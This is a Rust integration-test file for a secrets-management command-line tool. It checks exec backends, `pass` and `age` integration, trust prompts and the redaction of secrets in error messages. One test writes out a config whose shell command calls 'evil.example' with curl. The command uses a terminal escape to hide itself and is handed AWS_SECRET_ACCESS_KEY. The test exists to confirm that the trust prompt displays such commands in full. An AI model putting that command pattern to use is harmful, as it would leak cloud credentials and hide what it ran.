//! Backends whose secrets a program prints, also with Debian's `pass` (`SECRETS_TEST_PASS`) and `age`
//! (`SECRETS_TEST_AGE`).

mod audit;
mod signals;
mod unread_tables;

use std::{
    ffi::OsStr,
    io::Write as _,
    os::unix::fs::PermissionsExt as _,
    path::Path,
    process::{Command, Stdio},
};

use serde_json::Value;

use crate::{
    commands::program::step,
    support::{CliOutput, Sandbox},
};

/// A folder with a program and a `secrets.toml`.
fn sandbox() -> Sandbox {
    let sandbox = Sandbox::new();
    write_program(&sandbox, "op", "echo \"SeNtInEl-$1\"");
    let program = sandbox.path().join("op");
    sandbox.write("secrets.toml", format!("[backends.op]\nexec = [{program:?}, '{{id}}']\n"));
    sandbox
}

fn write_program(sandbox: &Sandbox, name: &str, script: &str) {
    sandbox.write(name, format!("#!/bin/sh\n{script}\n"));
    let path = sandbox.path().join(name);
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// Runs a command with the folder's `secrets.toml`, which is named.
fn run(sandbox: &Sandbox, arguments: &[&str]) -> CliOutput {
    let mut command = sandbox.command(arguments);
    command.env("SECRETS_CONFIG", sandbox.path().join("secrets.toml"));
    CliOutput::new(command.output().unwrap())
}

#[track_caller]
fn ok(sandbox: &Sandbox, arguments: &[&str]) -> String {
    let result = run(sandbox, arguments);
    assert_eq!(result.code, Some(0), "{result:?}");
    result.text()
}

#[test]
fn every_command_that_reads_has_it() {
    let sandbox = sandbox();
    let json = ok(&sandbox, &["resolve", "op.vault/item", "--reveal", "--format=json"]);
    let json: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json["env"]["vault_item"], "SeNtInEl-vault/item");
    assert_eq!(json["secrets"]["vault/item"]["vault_item"], "SeNtInEl-vault/item");
    let printed = ok(&sandbox, &["run", "op.vault/item", "--", "printenv", "vault_item"]);
    assert_eq!(printed, "SeNtInEl-vault/item\n");
    // The command line takes ids that an attribute writes with a type.
    let printed = ok(&sandbox, &["run", "op.My item", "--", "printenv", "My_item"]);
    assert_eq!(printed, "SeNtInEl-My item\n");
    let checked = ok(&sandbox, &["check", "op.vault/item"]);
    assert!(checked.contains("vault/item") && !checked.contains("SeNtInEl"), "{checked}");
    let got = ok(&sandbox, &["get", "vault/item", "--backend", "op", "--reveal"]);
    assert!(got.contains("SeNtInEl-vault/item"), "{got}");
    let printed = ok(&sandbox, &["run", "--backend", "op", "item", "--", "printenv", "item"]);
    assert_eq!(printed, "SeNtInEl-item\n");
    run(&sandbox, &["resolve", "op.-x"]).assert_fails(5);
    run(&sandbox, &["get", "item", "--backend", "op", "--previous"]).assert_fails(1);
    run(&sandbox, &["register", "item", "--a=b", "--backend", "op"]).assert_fails(1);
}

#[test]
fn at_launch_it_is_named_and_never_made() {
    let sandbox = sandbox();
    let with = |text: &str| {
        let mut command = sandbox.command(["run", "--", "printenv", "item"]);
        command
            .env("SECRETS_CONFIG", sandbox.path().join("secrets.toml"))
            .env("SECRETS_WITH", text);
        CliOutput::new(command.output().unwrap())
    };
    let result = with(r#"secrets:sources=["op.item"]"#);
    assert_eq!(result.text(), "SeNtInEl-item\n", "{result:?}");
    let exec = r#"secrets:sources=[{"id": "item", "type": "op", "exec": ["/bin/echo", "x"]}]"#;
    assert_eq!(with(exec).code, Some(5));
}

#[test]
fn explain_and_doctor_have_a_row_for_each_table() {
    let sandbox = sandbox();
    sandbox.write(
        "program",
        step("load", r#"["op.vault/item",{"id":"a b","type":"op"},"local.op.x"]"#),
    );
    let json = ok(&sandbox, &["explain", "./program", "load", "--format=json"]);
    let json: Value = serde_json::from_str(&json).unwrap();
    let sources = &json["steps"][0]["sources"];
    for (index, source, backend, id) in [
        (0, "op.vault/item", "op", "vault/item"),
        (1, "op.a b", "op", "a b"),
        (2, "local.op.x", "local", "op.x"),
    ] {
        let found = &sources[index];
        assert_eq!((&found["source"], &found["id"]), (&Value::from(source), &Value::from(id)));
        assert_eq!(found["backends"][0], backend);
    }
    let text = ok(&sandbox, &["doctor"]);
    let program = sandbox.path().join("op");
    let row = format!("  op: reachable: the program {}\n", program.display());
    assert!(text.contains(&row), "{text}");
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o757)).unwrap();
    let text = ok(&sandbox, &["doctor"]);
    assert!(
        text.contains("  op: not reachable: ") && text.contains("everybody may write"),
        "{text}"
    );
    assert_eq!(run(&sandbox, &["doctor", "--backend", "op"]).code, Some(5));
}

#[test]
fn the_help_for_what_is_not_json_names_the_backend() {
    let sandbox = sandbox();
    let table = "[backends.bad]\nexec = ['/bin/echo', 'SeNtInEl', '{id}']\nformat = 'json'\n";
    sandbox.write("secrets.toml", table);
    let result = run(&sandbox, &["resolve", "bad.x/y"]);
    result.assert_fails(5);
    for help in [
        r#"'{"type": "bad", "id": "x/y", "options": {"json": false}}'"#,
        r#"or set format = "text" in [backends.bad]"#,
    ] {
        assert!(result.stderr.contains(help), "{result:?}");
    }
}

#[test]
fn a_type_that_is_nearly_a_table_is_told() {
    let sandbox = sandbox();
    let result = run(&sandbox, &["resolve", "opp.prod/db"]);
    result.assert_fails(3);
    assert!(result.stderr.contains("did you mean `op.prod/db`"), "{result:?}");
    let result = run(&sandbox, &["resolve", "elsewhere.prod/db"]);
    assert!(!result.stderr.contains("did you mean"), "{result:?}");
}

#[test]
fn a_program_of_a_found_file_runs_after_trust() {
    let sandbox = Sandbox::new();
    std::fs::create_dir(sandbox.path().join(".git")).unwrap();
    write_program(&sandbox, "op", "touch \"$(dirname \"$0\")/ran\"; echo SeNtInEl");
    let program = sandbox.path().join("op");
    sandbox.write("secrets.toml", format!("[backends.op]\nexec = [{program:?}]\n"));
    for arguments in [
        &["resolve", "op.x"][..],
        &["run", "op.x", "--", "true"],
        &["check", "op.x"],
        &["get", "x", "--backend", "op"],
        &["doctor"],
    ] {
        let result = sandbox.run(arguments);
        assert_eq!(result.code, Some(5), "{arguments:?}: {result:?}");
        assert!(result.stderr.contains("decides which program is run"), "{result:?}");
        assert!(result.stderr.contains("secrets trust "), "{result:?}");
        assert!(!sandbox.path().join("ran").exists(), "{arguments:?}");
    }
    let trusted = sandbox.run(["trust"]);
    assert_eq!(trusted.code, Some(0), "{trusted:?}");
    let decides = format!("it now decides backends.op (runs {})\n", program.display());
    assert!(trusted.stderr.contains(&decides), "{trusted:?}");
    assert!(sandbox.ok(["resolve", "op.x", "--reveal"]).contains("SeNtInEl"));
    assert!(sandbox.path().join("ran").exists());
}

#[test]
fn trust_shows_the_whole_command() {
    let sandbox = Sandbox::new();
    std::fs::create_dir(sandbox.path().join(".git")).unwrap();
    let table = r#"[backends.op]
exec = ["/bin/sh", "-c", "curl 'evil.example'\u001b[1A", "{id}"]
env = ["AWS_SECRET_ACCESS_KEY", "A b"]
"#;
    sandbox.write("secrets.toml", table);
    let trusted = sandbox.run(["trust"]);
    let decides = "it now decides backends.op (runs /bin/sh -c 'curl '\\''evil.example'\\''\\u{1b}[1A' '{id}', which gets \
                   AWS_SECRET_ACCESS_KEY and 'A b')\n";
    assert!(trusted.stderr.contains(decides), "{trusted:?}");
    let trusted: serde_json::Value =
        serde_json::from_str(&sandbox.ok(["trust", "--format=json"])).unwrap();
    let program = serde_json::json!({
        "key": "backends.op",
        "command": ["/bin/sh", "-c", "curl 'evil.example'\u{1b}[1A", "{id}"],
        "env": ["AWS_SECRET_ACCESS_KEY", "A b"],
    });
    assert_eq!(trusted["programs"], serde_json::json!([program]));
}

#[test]
fn a_failure_is_told_without_its_secrets() {
    let sandbox = sandbox();
    let script = "echo SeNtInEl-$1; echo \"cannot decrypt SeNtInEl-$1: bad key\" >&2; exit 2";
    write_program(&sandbox, "op", script);
    let result = run(&sandbox, &["resolve", "op.item", "--format=json"]);
    result.assert_fails(6);
    assert!(result.stderr.contains("the code 2: cannot decrypt ***: bad key"), "{result:?}");
    assert_eq!(result.json_kind(), "Unavailable");
}

/// An ignored signal stays ignored in the program that takes the place of `env`.
#[cfg(target_os = "linux")]
#[test]
fn an_ignored_sigchld_is_named() {
    let sandbox = sandbox();
    let arguments = ["resolve", "op.item", "--format=json"];
    let mut command = sandbox.command_with_signals("--ignore-signal=CHLD", &arguments);
    command.env("SECRETS_CONFIG", sandbox.path().join("secrets.toml"));
    let result = CliOutput::new(command.output().unwrap());
    result.assert_fails(6);
    assert!(result.stderr.contains("this process ignores SIGCHLD"), "{result:?}");
}

/// Runs a tool in the sandbox, which must succeed. Returns what it prints.
#[track_caller]
fn tool(sandbox: &Sandbox, program: impl AsRef<OsStr>, arguments: &[&str], input: &str) -> String {
    let mut command = Command::new(program);
    command.args(arguments).current_dir(sandbox.path()).env_clear();
    command.env("PATH", "/usr/local/bin:/usr/bin:/bin").env("HOME", sandbox.path());
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    // It may not read it.
    let _ = child.stdin.take().unwrap().write_all(input.as_bytes());
    let output = child.wait_with_output().unwrap();
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{arguments:?}: {errors}");
    String::from_utf8(output.stdout).unwrap()
}

/// Ends the agent that gpg has started for a sandbox.
struct Agent<'a>(&'a Sandbox);

impl Drop for Agent<'_> {
    fn drop(&mut self) {
        let mut command = Command::new("gpgconf");
        let _ = command.args(["--kill", "gpg-agent"]).env("HOME", self.0.path()).status();
    }
}

#[test]
fn pass_with_gpg() {
    let Some(pass) = std::env::var_os("SECRETS_TEST_PASS") else {
        println!("skipped: SECRETS_TEST_PASS is not set");
        return;
    };
    let sandbox = Sandbox::new();
    let _agent = Agent(&sandbox);
    let key = [
        "--batch",
        "--passphrase",
        "",
        "--quick-generate-key",
        "me@example.org",
        "default",
        "default",
        "never",
    ];
    tool(&sandbox, "gpg", &key, "");
    tool(&sandbox, &pass, &["init", "me@example.org"], "");
    tool(&sandbox, &pass, &["insert", "--multiline", "prod/db"], "SeNtInEl-pass\n");
    tool(&sandbox, &pass, &["insert", "--multiline", "prod/json"], "{\"user\": \"app\"}\n");
    let pass = Path::new(&pass).display().to_string();
    sandbox.write(
        "secrets.toml",
        format!(
            "[backends.pass]\nexec = [{pass:?}, 'show', '{{id}}']\n[sources]\nprod-db = {{ type = 'pass', id = 'prod/json', options = {{ json = true }} }}\n"
        ),
    );
    let printed = ok(&sandbox, &["run", "pass.prod/db", "--", "printenv", "prod_db"]);
    assert_eq!(printed, "SeNtInEl-pass\n");
    assert_eq!(ok(&sandbox, &["run", "prod-db", "--", "printenv", "user"]), "app\n");
    ok(&sandbox, &["check", "pass.prod/db", "prod-db"]);
    let missing = run(&sandbox, &["resolve", "pass.prod/other"]);
    missing.assert_fails(6);
    assert!(missing.stderr.contains("prod/other is not in the password store"), "{missing:?}");
}

#[test]
fn age() {
    let Some(age) = std::env::var_os("SECRETS_TEST_AGE") else {
        println!("skipped: SECRETS_TEST_AGE is not set");
        return;
    };
    let sandbox = Sandbox::new();
    let keygen = Path::new(&age).with_file_name("age-keygen");
    tool(&sandbox, &keygen, &["-o", "key.txt"], "");
    let recipient = tool(&sandbox, &keygen, &["-y", "key.txt"], "");
    let encrypt = ["-r", recipient.trim(), "-o", "prod-db.age"];
    tool(&sandbox, &age, &encrypt, "{\"user\": \"app\", \"password\": \"SeNtInEl-age\"}\n");
    let (folder, age) = (sandbox.path().display(), Path::new(&age).display().to_string());
    sandbox.write(
        "secrets.toml",
        format!(
            "[backends.age]\nformat = 'json'\nexec = [{age:?}, '-d', '-i', '{folder}/key.txt', '{folder}/{{id}}.age']\n"
        ),
    );
    let printed = ok(&sandbox, &["run", "age.prod-db", "--", "printenv", "password"]);
    assert_eq!(printed, "SeNtInEl-age\n");
    let missing = run(&sandbox, &["resolve", "age.other"]);
    missing.assert_fails(6);
    assert!(missing.stderr.contains("no such file"), "{missing:?}");
    tool(&sandbox, &keygen, &["-o", "other.txt"], "");
    std::fs::rename(sandbox.path().join("other.txt"), sandbox.path().join("key.txt")).unwrap();
    run(&sandbox, &["resolve", "age.prod-db"]).assert_fails(6);
}
